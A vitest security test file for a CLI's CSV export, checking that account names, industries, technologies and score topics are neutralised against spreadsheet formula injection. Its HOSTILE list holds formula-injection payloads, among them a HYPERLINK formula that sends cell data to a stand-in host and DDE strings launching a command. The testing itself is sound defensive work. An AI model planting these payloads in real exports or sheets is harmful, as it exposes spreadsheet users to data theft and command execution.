import { mkdtempSync, readFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import { beforeAll, describe, expect, it } from 'vitest'
import { exportCommand } from '../../src/cli/export.ts'
import { rowWriter } from '../../src/cli/output.ts'
import { testConfig } from '../helpers/config.ts'
import { buildContext } from '../../src/composition-root.ts'
import { putAccount } from '../../src/domain/accounts.ts'
import { createLogger } from '../../src/logger.ts'

/** What a spreadsheet reads as the start of a formula (OWASP), ASCII and full-width. */
const FORMULA_START = /^\s*[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '\uFF1D1+1',
]

let dir: string
const csvOf = (file: string) =>
  parse(readFileSync(file, 'utf8'), { columns: true, relax_quotes: true }) as Record<
    string,
    string
  >[]

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'intent-csv-'))
  const ctx = buildContext(testConfig({ DB_PATH: join(dir, 'intent.db') }), {
    logger: createLogger('silent'),
  })
  for (const [i, name] of HOSTILE.entries()) {
    await putAccount(ctx, `hostile${i}.com`, {
      name,
      industry: HOSTILE[(i + 1) % HOSTILE.length]!,
      employees: 10 + i,
      technologies: [HOSTILE[(i + 2) % HOSTILE.length]!.trim() || 'x', 'SAP'],
    })
  }
  await putAccount(ctx, 'plain.com', { name: 'Plain Ltd', employees: 5, revenue: 1e6 })
  const { id } = (await ctx.store.accounts.findWithId('hostile0.com'))!
  await ctx.store.scores.saveMany(
    [
      {
        score: {
          accountId: id,
          computedAt: Date.UTC(2026, 10, 25),
          modelId: 'm-1',
          score: 71,
          probability: 0.71,
          label: 'hot',
          stage: 'decision',
          fitGrade: null,
          surgingTopics: ["=cmd|' /C calc'!A0", '@SUM(1)'],
          body: '{}',
        },
        notify: [],
      },
    ],
    20_000,
    Date.UTC(2026, 10, 25),
  )
  await ctx.store.close()
})

const runExport = async (...args: string[]) => {
  await exportCommand().parseAsync([...args, '--db', join(dir, 'intent.db')], { from: 'user' })
}

describe('security: CSV formula injection (finding 1)', () => {
  it('intent export accounts neutralises hostile names, industries and technologies in every column', async () => {
    const out = join(dir, 'accounts.csv')
    await runExport('accounts', '--out', out)
    const rows = csvOf(out)
    expect(rows).toHaveLength(HOSTILE.length + 1)
    for (const row of rows)
      for (const [column, cell] of Object.entries(row))
        expect(cell, `${row.domain} ${column}`).not.toMatch(FORMULA_START)
    const first = rows.find((row) => row.domain === 'hostile0.com')!
    // The text is kept, behind the quote a spreadsheet reads as "this is text".
    expect(first.name).toBe(`'${HOSTILE[0]}`)
    expect(first.employees).toBe('10')
    expect(rows.find((row) => row.domain === 'plain.com')).toMatchObject({
      name: 'Plain Ltd',
      employees: '5',
      revenue: '1000000',
    })
  })

  it('intent export scores neutralises hostile surging topics', async () => {
    const out = join(dir, 'scores.csv')
    await runExport('scores', '--out', out)
    const [row] = csvOf(out)
    expect(row!.surgingTopics).toBe("'=cmd|' /C calc'!A0|@SUM(1)")
    for (const cell of Object.values(row!)) expect(cell).not.toMatch(FORMULA_START)
    expect(row!.score).toBe('71')
  })

  it('the CSV writer (also behind intent score --out) keeps real numbers, negative ones too, and quotes text that only looks numeric', async () => {
    const out = join(dir, 'rows.csv')
    const writer = rowWriter<Record<string, unknown>>(out, 'csv', ['momentum', 'text', 'topics'])
    await writer.write({ momentum: -0.42, text: '-0.42', topics: '+48 22 123 45 67' })
    await writer.write({ momentum: 3, text: 'fine', topics: null })
    await writer.close()
    expect(readFileSync(out, 'utf8')).toBe(
      "momentum,text,topics\n-0.42,'-0.42,'+48 22 123 45 67\n3,fine,\n",
    )
  })

  it('NDJSON output is left exactly as stored', async () => {
    const out = join(dir, 'accounts.ndjson')
    await runExport('accounts', '--out', out)
    const names = readFileSync(out, 'utf8')
      .trim()
      .split('\n')
      .map((line) => (JSON.parse(line) as { name: string }).name)
    expect(names).toContain(HOSTILE[0])
  })
})
